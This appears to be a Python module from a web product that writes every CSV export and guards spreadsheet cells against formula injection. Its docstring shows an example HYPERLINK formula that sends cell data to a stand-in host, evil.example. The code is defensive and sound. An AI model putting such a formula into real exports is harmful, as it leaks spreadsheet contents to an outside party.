"""The one CSV writer of the product, and the formula guard every spreadsheet cell gets.

A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` as a formula (and some
strip a leading tab or carriage return first): `=HYPERLINK("http://evil.example/?"&A2)`
typed into a name would leak the sheet when a colleague opens the export. Every CSV the
API serves goes through `to_csv`, which guards every cell; workbook writers guard theirs
with `guard_workbook_cell` (openpyxl), which keeps the text and marks it as text.
"""

import csv
import io
from collections.abc import Iterable, Sequence
from typing import Any

from starlette.responses import Response

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
BOM = b"\xef\xbb\xbf"


def guard_cell(value: Any) -> str:
    """The cell as text a spreadsheet shows and never runs: a formula start gets a `'`."""
    if value is None:
        return ""
    text = str(value)
    return "'" + text if text.startswith(FORMULA_START) else text


def to_csv(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> bytes:
    """The rows as CSV bytes, every cell guarded, with a BOM so Excel reads æøå right."""
    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator="\r\n")
    writer.writerow([guard_cell(h) for h in header])
    for row in rows:
        writer.writerow([guard_cell(v) for v in row])
    return BOM + buf.getvalue().encode("utf-8")


def csv_response(body: bytes, filename: str) -> Response:
    """A private CSV download."""
    return Response(
        body,
        media_type="text/csv; charset=utf-8",
        headers={
            "Content-Disposition": f'attachment; filename="{filename}"',
            "Cache-Control": "private, no-store",
        },
    )


def guard_workbook_cell(cell: Any) -> Any:
    """Make an openpyxl cell holding text safe: stored as a string (never a formula), and
    a formula start marked with Excel's quote prefix, so editing the cell keeps it text.

    The text itself is unchanged, so a workbook read back gives what was written."""
    if isinstance(cell.value, str):
        cell.data_type = "s"
        if cell.value.startswith(FORMULA_START):
            cell.quotePrefix = True
    return cell
